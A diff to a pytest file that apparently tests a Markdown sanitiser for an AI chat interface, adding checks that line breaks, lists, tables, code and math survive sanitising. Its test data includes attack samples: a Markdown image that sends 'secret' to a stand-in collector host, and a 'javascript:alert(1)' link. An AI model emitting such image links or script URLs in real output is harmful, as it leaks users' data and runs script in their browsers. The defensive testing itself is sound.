@@ -3,6 +3,7 @@ and ordinary Markdown still renders as it did."""
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 import pytest
@@ -14,6 +15,10 @@ from assistants_ui.core.safe_markdown import code_span, inert, link, literal
 # A second parser, GFM-like, to read what the page's renderer would be given.
 md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
 md.validateLink = lambda url: True  # type: ignore[method-assign]  # see every link
+# The same, showing a single line break as a line break (markdown-it's `breaks`): how
+# the page should show what `inert` writes, read by a plain CommonMark renderer.
+md_breaks = MarkdownIt("commonmark", {"breaks": True}).enable("table").enable("strikethrough")
+md_breaks.validateLink = lambda url: True  # type: ignore[method-assign]
 
 ATTACKS = {
     "inline image": "Hi ![s](https://collector.example/p.png?d=secret)",
@@ -113,7 +118,7 @@ BENIGN = [
 
 @pytest.mark.parametrize("doc", BENIGN)
 def test_ordinary_markdown_renders_the_same(doc: str) -> None:
-    assert md.render(inert(doc)) == md.render(doc)
+    assert md.render(inert(doc)) == md_breaks.render(doc)
 
 
 def test_math_is_kept_verbatim_and_dollars_elsewhere_are_escaped() -> None:
@@ -149,3 +154,59 @@ def test_labels_show_names_literally() -> None:
     assert link("Docs ![x](https://c.example/x.png)", "javascript:alert(1)") == (
         "Docs \\!\\[x\\]\\(https\\://c\\.example/x\\.png\\)"
     )
+
+
+POEM = "Roses are red,\nViolets are blue,\n*Sugar* is sweet,\nAnd [so](https://so.example) are you."
+
+
+def test_a_poem_keeps_its_lines() -> None:
+    # Markdown would join the lines of one paragraph into one line; the page shows them.
+    assert md.render(inert(POEM)) == (
+        "<p>Roses are red,<br />\nViolets are blue,<br />\n<em>Sugar</em> is sweet,<br />\n"
+        'And <a href="https://so.example">so</a> are you.</p>\n'
+    )
+    assert inert(inert(POEM)) == inert(POEM)  # painting it again changes nothing
+
+
+# Markdown that stays what it is, each with single line breaks where they may occur.
+KEPT = {
+    "list with continuation lines": "- milk\n  cold\n- eggs\nlazy line\n- bread",
+    "nested list": "1. first\n   - inner\n     more\n   - two\n2. second\nlazy",
+    "loose list": "- a\n  b\n\n- c",
+    "heading": "# Title\nText under it\nand more\n\nSetext\n===",
+    "block quote": "> quoted\n> more\nlazy\n>\n> - in quote\n>   next",
+    "table": "| a | b |\n|---|:-:|\n| `x` | **y** |\n| 1 | [l](https://l.example) |\nafter",
+    "link across lines": "see [the\ndocs](https://d.example) now\nplease",
+    "emphasis across lines": "*one\ntwo* and **three\nfour**",
+    "hard breaks already": "one  \ntwo\\\nthree\nfour",
+    "fenced code": "Code:\n```python\nx = 1\ny = 2\n\nz = 3\n```\nafter\nit",
+    "indented code": "Text\n\n    x = 1\n    y = 2\n\nmore\ntext",
+    "code in a list": "- item\n  ```\n  a\n  b\n  ```\n- next\n  line",
+}
+
+
+@pytest.mark.parametrize("name", list(KEPT))
+def test_markdown_stays_markdown_with_its_line_breaks(name: str) -> None:
+    doc = KEPT[name]
+    out = inert(doc)
+    html = md.render(out)
+    assert html == md_breaks.render(doc), out
+    assert inert(out) == out
+    for code in re.findall(r"<code[^>]*>(.*?)</code>", html, re.DOTALL):
+        assert "<br" not in code and "\\" not in code  # code is verbatim
+
+
+def test_where_a_backslash_would_show_a_break_stays_soft() -> None:
+    # The page's renderer reads `$$` on lines of their own as a display block, which
+    # interrupts the paragraph: a `\\` before or after it would show as a backslash or
+    # break the formula. Elsewhere in the paragraph, lines are kept.
+    doc = "Intro\nHere:\n$$\nx = 1\n$$\nand after\nmore"
+    assert inert(doc) == "Intro\\\nHere:\n$$\nx = 1\n$$\nand after\\\nmore"
+    # Math on one line is inline math: the lines around it are kept.
+    assert inert("a\n$$x$$\nb $y$\nc") == "a\\\n$$x$$\\\nb $y$\\\nc"
+    # A heading, an image's text and a code span are one line: a break is a space.
+    assert inert("Setext\ntwo lines\n===") == "# Setext two lines"
+    assert inert("![a\nb](https://i.example/x.png)") == (
+        "[🖼 a b (i.example)](<https://i.example/x.png>)"
+    )
+    assert inert("`a\nb` c") == "`a b` c"
